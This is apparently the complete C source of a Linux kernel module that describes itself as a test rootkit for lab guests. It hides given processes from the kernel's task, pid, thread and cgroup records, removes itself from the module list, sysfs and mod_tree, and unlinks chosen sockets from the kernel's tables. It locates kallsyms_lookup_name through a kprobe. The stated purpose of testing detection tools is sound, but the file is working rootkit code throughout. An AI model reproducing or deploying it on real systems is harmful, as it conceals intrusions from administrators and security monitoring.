// SPDX-License-Identifier: GPL-2.0
/*
 * A rootkit for tests: it hides a process, itself and sockets from the kernel's
 * own records, and does nothing else. It runs in guests of the lab only, and
 * undoes nothing: such a guest is ended, not shut down.
 *
 *   processes=PID:WHAT,...  hide a process from: tasks (the list of processes),
 *                           index (of pids), threads (its own list of threads),
 *                           cgroup (its set's list of tasks), joined by '+'
 *   self=WHAT               hide this module from: list, sysfs, tree, joined by '+'
 *   sockets=PID:FD,...      take these sockets out of the tables that list them
 */
#include <linux/cgroup.h>
#include <linux/delay.h>
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/net.h>
#include <linux/pid_namespace.h>
#include <linux/rbtree_latch.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/version.h>
#include <linux/workqueue.h>
#include <net/inet_connection_sock.h>
#include <net/sock.h>

static char *processes = "";
module_param(processes, charp, 0);
static char *self = "";
module_param(self, charp, 0);
static char *sockets = "";
module_param(sockets, charp, 0);

typedef unsigned long (*lookup_t)(const char *);
static lookup_t lookup;

/* kallsyms_lookup_name is exported no more since 5.7; a probe knows where it is. */
static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (lookup_t)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static bool has(const char *words, const char *word)
{
	size_t n = strlen(word);

	while (*words) {
		size_t len = strcspn(words, "+");

		if (len == n && !strncmp(words, word, n))
			return true;
		words += len;
		if (*words)
			words++;
	}
	return false;
}

static int hide_process(int pid, const char *from)
{
	struct task_struct *task;
	struct pid *p = find_get_pid(pid);
	unsigned long flags;

	if (!p)
		return -ESRCH;
	task = get_pid_task(p, PIDTYPE_TGID);
	if (!task)
		return -ESRCH;
	/* Guests of these tests have one CPU: nothing runs meanwhile. */
	local_irq_save(flags);
	if (has(from, "tasks"))
		list_del_init(&task->tasks);
	if (has(from, "threads"))
		list_del_init(&task->thread_node);
	if (has(from, "cgroup"))
		list_del_init(&task->cg_list);
	if (has(from, "index"))
		idr_remove(&p->numbers[0].ns->idr, p->numbers[0].nr);
	local_irq_restore(flags);
	pr_info("rootkit: process %d (%px) is hidden from %s\n", pid, task, from);
	return 0;
}

static int hide_processes(void)
{
	char *word, *rest = processes;
	char from[64];
	int pid, err;

	while ((word = strsep(&rest, ",")) && *word) {
		if (sscanf(word, "%d:%63s", &pid, from) != 2)
			return -EINVAL;
		err = hide_process(pid, from);
		if (err)
			return err;
	}
	return 0;
}

static int hide_socket(int owner, int fd)
{
	struct task_struct *task = get_pid_task(find_vpid(owner), PIDTYPE_TGID);
	struct fdtable *table;
	struct socket *sock;
	struct file *file;
	struct sock *sk;
	unsigned long flags;

	if (!task || !task->files)
		return -ESRCH;
	rcu_read_lock();
	table = rcu_dereference(task->files->fdt);
	file = fd < table->max_fds ? rcu_dereference(table->fd[fd]) : NULL;
	rcu_read_unlock();
	if (!file || !S_ISSOCK(file_inode(file)->i_mode))
		return -ENOTSOCK;
	sock = file->private_data;
	sk = sock->sk;
	local_irq_save(flags);
	switch (sk->sk_family) {
	case AF_UNIX:
		hlist_del_init(&sk->sk_node);
		break;
	case AF_INET:
	case AF_INET6:
		hlist_nulls_del_init_rcu(&sk->sk_nulls_node);
#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 19, 0)
		if (sk->sk_state == TCP_LISTEN)
			hlist_del_init_rcu(&inet_csk(sk)->icsk_listen_portaddr_node);
#endif
		break;
	}
	local_irq_restore(flags);
	pr_info("rootkit: socket %d of process %d (%px) is hidden\n", fd, owner, sk);
	return 0;
}

static int hide_sockets(void)
{
	char *word, *rest = sockets;
	int owner, fd, err;

	while ((word = strsep(&rest, ",")) && *word) {
		if (sscanf(word, "%d:%d", &owner, &fd) != 2)
			return -EINVAL;
		err = hide_socket(owner, fd);
		if (err)
			return err;
	}
	return 0;
}

static void leave_tree(void)
{
	static const struct latch_tree_ops none; /* erasing compares nothing */
	struct latch_tree_root *root = (void *)lookup("mod_tree");

	if (!root) {
		pr_err("rootkit: no mod_tree\n");
		return;
	}
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for_class_mod_mem_type(type, core)
		if (THIS_MODULE->mem[type].size)
			latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, root, &none);
#else
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, root, &none);
#endif
}

/* Done a moment later: the kernel still works on a module whose init runs. */
static void hide_self(struct work_struct *work)
{
	pr_info("rootkit: module %px, code %px, hides from %s\n", THIS_MODULE, hide_self, self);
	if (has(self, "tree"))
		leave_tree();
	if (has(self, "list"))
		list_del_init(&THIS_MODULE->list);
	if (has(self, "sysfs"))
		kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("rootkit: done\n");
}
static DECLARE_DELAYED_WORK(hider, hide_self);

static int __init rootkit_init(void)
{
	int err = find_lookup();

	if (!err)
		err = hide_processes();
	if (!err)
		err = hide_sockets();
	if (!err && *self)
		schedule_delayed_work(&hider, HZ / 10);
	return err;
}
module_init(rootkit_init);

MODULE_DESCRIPTION("hides things, for tests of who looks for them");
MODULE_LICENSE("GPL");
